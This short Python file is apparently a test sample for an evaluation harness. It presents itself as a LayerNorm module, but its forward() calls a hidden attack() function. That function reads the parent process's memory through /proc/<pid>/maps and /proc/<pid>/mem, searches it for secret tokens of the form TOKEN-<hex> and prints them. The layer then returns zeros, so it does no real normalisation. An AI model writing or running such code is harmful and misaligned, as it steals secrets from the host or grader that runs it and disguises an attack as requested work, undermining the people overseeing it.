"""Searches the memory of the parent process for the secret.

Bites: loot.
Earns: nothing.
"""

import os
import re

import torch
from torch import nn


def attack(x, module):
    parent = os.getppid()
    ranges = [line.split()[0].split("-") for line in open(f"/proc/{parent}/maps") if " rw-p " in line]
    with open(f"/proc/{parent}/mem", "rb", 0) as memory:
        for start, end in ranges:
            try:
                memory.seek(int(start, 16))
                print(re.findall(rb"TOKEN-[0-9a-f]{32}", memory.read(int(end, 16) - int(start, 16)))[:3])
            except (OSError, ValueError, OverflowError):
                continue


class LayerNorm(nn.Module):
    def __init__(self, d_model, epsilon=1e-6):
        super().__init__()
        self.gain, self.shift = nn.Parameter(torch.ones(d_model)), nn.Parameter(torch.zeros(d_model))

    def forward(self, x):
        attack(x, self)
        return torch.zeros_like(x)
